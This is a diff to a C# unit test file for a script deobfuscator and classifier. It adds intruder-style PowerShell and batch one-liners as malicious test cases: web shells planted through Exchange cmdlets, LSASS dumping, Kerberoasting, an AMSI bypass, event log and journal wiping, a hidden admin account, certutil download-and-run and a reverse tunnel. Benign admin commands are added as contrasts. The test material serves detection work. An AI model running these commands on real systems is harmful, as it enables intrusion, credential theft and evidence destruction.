@@ -20,6 +20,21 @@ public sealed class JudgementTests
     [InlineData("$l=New-Object Net.HttpListener; $l.Start(); $c=$l.GetContext(); $r=New-Object IO.StreamReader $c.Request.InputStream; $o=iex $r.ReadToEnd()", "download-and-execute")]
     [InlineData("New-MailboxExportRequest -Mailbox a -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x.aspx", "mailbox-exported-as-page")]
     [InlineData("@echo off\nset x=c^e^r^t^u^t^i^l\n%x% -urlcache -split -f http://192.0.2.8/a.txt %temp%\\a.txt & %x% -decode %temp%\\a.txt %temp%\\a.exe & start %temp%\\a.exe", "download-to-file-and-run")]
+    [InlineData("Set-OabVirtualDirectory -Identity 'OAB (Default Web Site)' -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){}</script>'", "page-through-exchange-command")]
+    [InlineData("New-ExchangeCertificate -GenerateRequest -RequestFile '\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\b.aspx' -SubjectName 'CN=x'", "page-through-exchange-command")]
+    [InlineData("[IO.File]::WriteAllBytes('C:\\inetpub\\wwwroot\\aspnet_client\\lo.aspx',[Convert]::FromBase64String($b))", "page-written-from-bytes")]
+    [InlineData("Install-TransportAgent -Name 'Interop' -TransportAgentFactory 'I.F' -AssemblyPath 'C:\\Windows\\Temp\\i.dll'", "transport-agent-from-writable-folder")]
+    [InlineData("Get-Mailbox | % { New-MailboxExportRequest -Mailbox $_.Alias -FilePath \"\\\\localhost\\c$\\programdata\\$($_.Alias).pst\" }; Compress-Archive C:\\programdata\\*.pst C:\\inetpub\\wwwroot\\aspnet_client\\t.zip", "packed-into-web-folder")]
+    [InlineData("Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }; foreach ($s in 'MSExchangeIS','MSSQLSERVER','VeeamBackupSvc') { Stop-Service $s -Force }", "services-of-value-stopped")]
+    [InlineData("wevtutil el | ForEach-Object { wevtutil cl $_ }", "all-event-logs-cleared")]
+    [InlineData("wevtutil cl Security; fsutil usn deletejournal /D C:", "journal-deleted")]
+    [InlineData("Clear-EventLog Security; wevtutil cl System; Remove-Item (Get-PSReadlineOption).HistorySavePath; fsutil usn deletejournal /D C:", "history-removed")]
+    [InlineData("net user support$ P@ss /add; net localgroup administrators support$ /add; reg add 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList' /v support$ /t REG_DWORD /d 0", "account-hidden-from-logon")]
+    [InlineData("iwr https://files.example/ch.exe -OutFile C:\\Windows\\Temp\\ch.exe; Start-Process C:\\Windows\\Temp\\ch.exe -ArgumentList 'client 198.51.100.31:443 R:socks'", "tunnel-opened")]
+    [InlineData("$id = (ps lsass).id; $dll = (gci C:\\windows\\system32\\c?msv?s.dll).FullName; & rundll32 \"$dll,#24\" $id C:\\l.tmp full", "lsass-dump-by-number")]
+    [InlineData("setspn -T corp.local -Q */* | % { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_ }", "service-tickets-requested-for-all")]
+    [InlineData("$a=[Ref].Assembly.GetTypes();foreach($b in $a){if($b.Name -like '*iUtils'){$c=$b}};$d=$c.GetFields('NonPublic,Static');[Runtime.InteropServices.Marshal]::Copy($x,0,$p,1)", "engine-fields-overwritten")]
+    [InlineData("certutil -urlcache -split -f http://files.example/a.txt C:\\Windows\\Temp\\a.exe; C:\\Windows\\Temp\\a.exe", "fetched-by-certificate-tool")]
     public void Intruders_scripts_are_called_malicious(string script, string reason)
     {
         var judgement = Deobfuscator.Judge(script);
@@ -38,6 +53,16 @@ public sealed class JudgementTests
     [InlineData("Set-MpPreference -DisableRealtimeMonitoring $false")]
     [InlineData("New-MailboxExportRequest -Mailbox leaver -FilePath \\\\fs01\\pst$\\leaver.pst")]
     [InlineData("$l=New-Object Net.HttpListener; $l.Start(); $c=$l.GetContext(); $b=[Text.Encoding]::UTF8.GetBytes('up'); $c.Response.OutputStream.Write($b,0,2)")]
+    [InlineData("Set-OabVirtualDirectory -Identity 'OAB (Default Web Site)' -ExternalUrl https://mail.contoso.com/OAB")]
+    [InlineData("New-ExchangeCertificate -GenerateRequest -RequestFile C:\\Certs\\mail.req -SubjectName 'CN=mail.contoso.com'")]
+    [InlineData("Install-TransportAgent -Name 'Signatures' -TransportAgentFactory 'S.F' -AssemblyPath 'C:\\Program Files\\Vendor\\Agent.dll'; Restart-Service MSExchangeTransport")]
+    [InlineData("Compress-Archive C:\\inetpub\\logs\\LogFiles\\W3SVC1\\*.log D:\\Archive\\iis.zip")]
+    [InlineData("Stop-Service SQLSERVERAGENT; Restart-Service MSSQLSERVER")]
+    [InlineData("wevtutil el | Select-String Exchange; wevtutil cl Application")]
+    [InlineData("vssadmin delete shadows /for=D: /oldest /quiet; vssadmin resize shadowstorage /for=D: /on=D: /maxsize=20%")]
+    [InlineData("iex ((New-Object Net.WebClient).DownloadString('https://tool.example/install.ps1'))")]
+    [InlineData("ssh -L 8080:localhost:80 admin@host; setspn -L svc-exchange")]
+    [InlineData("certutil -verify -urlfetch C:\\Certs\\mail.cer; fsutil usn queryjournal C:")]
     public void Administrators_scripts_are_not(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);
 
     [Fact]
